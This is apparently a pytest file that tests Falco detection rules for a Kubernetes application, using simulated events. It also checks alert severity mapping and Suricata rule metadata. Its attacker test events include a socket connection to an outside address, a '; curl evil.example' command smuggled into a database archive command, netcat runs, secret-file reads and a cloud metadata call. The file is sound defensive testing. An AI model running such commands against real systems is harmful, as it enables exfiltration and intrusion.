"""What somebody does who got in is seen, what our own processes do is not; by our own reading of the rules."""

import copy
import re
from typing import Any

import pytest
import yaml

from resimate.tests.kubernetes import falco, manifests
from resimate.tests.kubernetes.manifests import ROOT

pytestmark = pytest.mark.requirement("SEC-NET-002", "ALERT-001")
FOLDER = ROOT / "k8s/components/detection"
SEVERITIES = {"CRITICAL": "critical", "ERROR": "high", "WARNING": "medium", "NOTICE": "low"}
OURS = {
    "k8s.ns.name": "resimate",
    "k8s.pod.label[tier]": "application",
    "k8s.pod.label[serves]": "requests",
    "user.uid": 65532,
    "proc.name": "python",
    "proc.exepath": "/usr/bin/python3.11",
    "proc.cmdline": "python -m resimate",
}
DOOR = {
    "k8s.ns.name": "resimate-dmz",
    "user.uid": 101,
    "proc.name": "nginx",
    "proc.exepath": "/usr/local/nginx/sbin/nginx",
}
DATABASE = {
    "k8s.ns.name": "resimate",
    "k8s.pod.label[tier]": "database",
    "user.uid": 26,
    "proc.name": "postgres",
    "proc.exepath": "/usr/lib/postgresql/17/bin/postgres",
}
SHELL = {"proc.name": "sh", "proc.exepath": "/usr/bin/dash"}
#: Whoever got in brings a Python of their own, by the image's or beside it.
THEIRS = {"proc.cmdline": "python -c import socket; socket.create_connection(('203.0.113.9', 443))"}
STARTED = {"evt.type": "execve", "proc.tty": 0}
CALLED = {
    "evt.type": "connect",
    "fd.typechar": 4,
    "fd.l4proto": "tcp",
    "fd.sip": "203.0.113.9",
    "fd.snet": "203.0.113.9",
}
INSIDE = {"fd.sip": "10.244.0.9", "fd.snet": "10.244.0.9"}
UDP = {"fd.l4proto": "udp", "fd.sport": 53}
READ = {"evt.type": "openat", "fd.typechar": "f", "fd.num": 5, "evt.is_open_read": "true"}
WRITTEN = {"evt.type": "openat", "fd.typechar": "f", "fd.num": 5, "evt.is_open_write": "true"}
SECRET = {"fd.name": "/run/secrets/resimate/SECRET_KEY"}
#: What happens, and which rule sees it.
SEEN: list[tuple[str, dict[str, Any]]] = [
    ("Resimate shell in a container", OURS | STARTED | {"proc.name": "sh"}),
    ("Resimate shell in a container", DOOR | STARTED | {"proc.name": "busybox"}),
    (
        "Resimate shell in a container",
        DATABASE | STARTED | SHELL | {"proc.cmdline": "sh -c id", "proc.pname": "postgres"},
    ),
    (
        "Resimate shell in a container",
        DATABASE | STARTED | SHELL | {"proc.cmdline": "sh -c /controller/manager wal-archive x; curl evil.example"},
    ),
    ("Resimate other program", OURS | STARTED | {"proc.name": "curl", "proc.exepath": "/usr/bin/curl"}),
    *(
        ("Resimate other program", OURS | STARTED | {"proc.name": path.rpartition("/")[2], "proc.exepath": path})
        for path in ("/tmp/python", "/tmp/envoy", "/var/lib/resimate/pilot-agent")  # noqa: S108  paths in an event
    ),
    ("Resimate other program", DOOR | STARTED | {"proc.name": "curl", "proc.exepath": "/usr/bin/curl"}),
    ("Resimate other program", DATABASE | STARTED | {"proc.name": "nc", "proc.exepath": "/usr/bin/nc"}),
    ("Resimate write below programs", OURS | WRITTEN | {"fd.name": "/usr/bin/python3.11"}),
    ("Resimate write below programs", OURS | WRITTEN | {"fd.name": "/srv/resimate/manage.py", "fd.num": -30}),
    (
        "Resimate secret read by another process",
        OURS | READ | SECRET | {"proc.name": "cat", "proc.exepath": "/usr/bin/cat"},
    ),
    ("Resimate secret read by another process", OURS | READ | SECRET | THEIRS),
    ("Resimate secret read by another process", OURS | READ | SECRET | {"proc.cmdline": "python /tmp/x.py"}),
    (
        "Resimate secret read by another process",
        OURS | READ | SECRET | {"proc.name": "pilot-agent", "proc.exepath": "/tmp/pilot-agent"},  # noqa: S108
    ),
    ("Resimate unexpected connection", OURS | CALLED | {"fd.sport": 4444}),
    ("Resimate call outside", OURS | CALLED | THEIRS | {"fd.sport": 443}),
    ("Resimate call outside", OURS | CALLED | {"k8s.pod.label[serves]": "migration", "fd.sport": 443}),
    ("Resimate call outside", DOOR | CALLED | {"fd.sport": 443}),
    ("Resimate call outside", DATABASE | CALLED | {"fd.sport": 443}),
    ("Resimate datagrams", OURS | CALLED | UDP),
    ("Resimate datagrams", OURS | CALLED | UDP | {"evt.type": "sendto"}),
    ("Resimate datagrams", OURS | CALLED | UDP | INSIDE | {"evt.type": "sendto", "fd.sport": 4444}),
    ("Resimate metadata of the machine", DOOR | CALLED | {"fd.sport": 80, "fd.sip": "169.254.169.254"}),
    ("Resimate change of rights", OURS | {"evt.type": "setuid"}),
    ("Resimate change of rights", OURS | {"evt.type": "read", "user.uid": 0}),
    ("Resimate file made to run", OURS | {"evt.type": "fchmodat", "evt.arg.mode": "S_IXUSR|S_IRUSR"}),
    ("Resimate file made to run", OURS | WRITTEN | {"fd.name": "/tmp/python", "evt.is_open_exec": "true"}),  # noqa: S108
    ("Resimate command by hand", OURS | STARTED | {"proc.tty": 34816}),
]
#: What our own do all day, and what others do in their own place.
UNSEEN: list[dict[str, Any]] = [
    OURS | STARTED,
    OURS | READ | SECRET,
    OURS | WRITTEN | {"fd.name": "/tmp/upload"},  # noqa: S108  a path in an event
    *(OURS | CALLED | {"fd.sport": port} for port in (443, 587)),
    *(OURS | CALLED | INSIDE | {"fd.sport": port} for port in (443, 5432, 6379, 8200)),
    OURS | CALLED | INSIDE | UDP | {"evt.type": "sendmmsg"},
    OURS | CALLED | UDP | {"fd.sport": 443},  # how the addresses of a name are put into order
    OURS | CALLED | {"proc.cmdline": "python -m granian --interface wsgi", "fd.sport": 443},
    OURS | READ | SECRET | {"proc.cmdline": "python -c from multiprocessing.spawn import spawn_main; spawn_main()"},
    OURS | CALLED | {"k8s.pod.label[serves]": "migration", "fd.sport": 5432} | INSIDE,
    OURS | CALLED | {"fd.sport": 9000, "fd.sip": "127.0.0.1", "fd.snet": "127.0.0.1"},
    OURS | {"evt.type": "fchmodat", "evt.arg.mode": "S_IRUSR|S_IWUSR"},
    OURS | STARTED | {"proc.name": "envoy", "proc.exepath": "/usr/local/bin/envoy"},
    OURS | READ | {"fd.name": "/var/run/secrets/tokens/istio-token", "proc.exepath": "/usr/local/bin/pilot-agent"},
    OURS | {"evt.type": "setresuid", "user.uid": 0, "proc.name": "runc:[2:INIT]"},
    DOOR | STARTED,
    DOOR | CALLED | {"fd.sport": 8000, "fd.sip": "10.244.0.9", "fd.snet": "10.244.0.9"},
    DATABASE | STARTED | {"proc.name": "initdb", "proc.exepath": "/usr/lib/postgresql/17/bin/initdb"},
    DATABASE
    | STARTED
    | SHELL
    | {"proc.cmdline": "sh -c /controller/manager wal-archive pg_wal/0001", "proc.pname": "postgres"},
    DATABASE
    | STARTED
    | {"proc.exepath": "/usr/bin/python3.11", "proc.pname": "manager", "proc.cmdline": "python3 barman-cloud-backup"},
    DATABASE | {"evt.type": "setuid"},
    {"k8s.ns.name": "default", "user.uid": 0} | STARTED | {"proc.name": "sh"},
]


def _items() -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = yaml.safe_load((FOLDER / "falco.yaml").read_text())
    return items


def _seen(event: falco.Event) -> set[str]:
    return {rule.name for rule in falco.rules(_items()) if rule.is_met(event)}


@pytest.mark.parametrize(("rule", "event"), SEEN)
def test_what_somebody_does_who_got_in_is_seen(rule: str, event: dict[str, Any]) -> None:
    assert rule in _seen(event)


def test_a_pod_in_quarantine_is_looked_at_still() -> None:
    of_ours = [(rule, event) for rule, event in SEEN if event.get("k8s.pod.label[tier]") == "application"]
    assert len(of_ours) > 10
    for rule, event in of_ours:
        quarantined = {key: value for key, value in event.items() if key != "k8s.pod.label[serves]"}
        if event["k8s.pod.label[serves]"] != "migration":
            assert rule in _seen(quarantined | {"k8s.pod.label[tier]": "quarantine"}), rule


def test_what_our_own_do_is_not_seen() -> None:
    assert [(event, seen) for event in UNSEEN if (seen := _seen(event))] == []


def test_every_rule_is_tried_and_is_of_one_of_four_severities() -> None:
    rules = list(falco.rules(_items()))

    assert {rule.name for rule in rules} == {rule for rule, _ in SEEN}
    assert {rule.priority for rule in rules} == set(SEVERITIES)
    for rule in rules:
        named = re.findall(r"%([a-z0-9_.]+(?:\[[^]]+\])?)", rule.output)
        assert set(named) <= falco.FIELDS, rule.name
        assert {"k8s.pod.name", "user.uid"} <= set(named), rule.name


@pytest.mark.parametrize(
    "slip", ["proc.nam = sh", "proc.name is sh", "proc.name in (sh", "resimate_appication", "evt.type = execve and"]
)
def test_a_slip_of_the_pen_is_refused(slip: str) -> None:
    items = copy.deepcopy(_items())
    items[-1]["condition"] = slip

    with pytest.raises((falco.NotInTheLanguage, IndexError)):
        list(falco.rules(items))


def test_priorities_reach_people_as_the_severities_of_alerts() -> None:
    told = yaml.safe_load((FOLDER / "sidekick.yaml").read_text())["alertmanager"]
    becomes = dict(one.split(":") for one in told["customseveritymap"].split(","))

    assert {priority: becomes[priority.lower()] for priority in SEVERITIES} == SEVERITIES
    assert told["minimumpriority"] == "notice"
    assert (ROOT / told["extraannotations"].partition(":")[2]).exists()
    service, namespace = told["hostport"].removeprefix("http://").split(".")[:2]
    assert (service, namespace) == ("alertmanager", "resimate-management")


def test_rules_are_given_to_who_reads_them_as_they_are_written() -> None:
    for name, files in {
        "falco-rules": ["falco.yaml"],
        "falcosidekick": ["sidekick.yaml"],
        "suricata-rules": ["dmz.rules", "classification.config"],
    }.items():
        data = manifests.named("production", "ConfigMap", name, "resimate-detection")["data"]
        assert data == {file: (FOLDER / file).read_text() for file in files}


def test_rules_for_the_dmz_say_their_severity_twice_and_the_same() -> None:
    known = re.findall(r"^config classification: (\w+),.*,(\d)$", (FOLDER / "classification.config").read_text(), re.M)
    lines = [line for line in (FOLDER / "dmz.rules").read_text().splitlines() if not line.startswith("#")]

    assert known == [("critical", "1"), ("high", "2"), ("medium", "3"), ("low", "4")]
    said = [re.findall(r"classtype:(\w+); metadata:severity (\w+);", line)[0] for line in lines]
    assert [pair for pair in said if pair[0] != pair[1]] == []
    assert {pair[0] for pair in said} == {name for name, _ in known}
    assert len(set(re.findall(r"sid:(\d+)", "".join(lines)))) == len(lines)
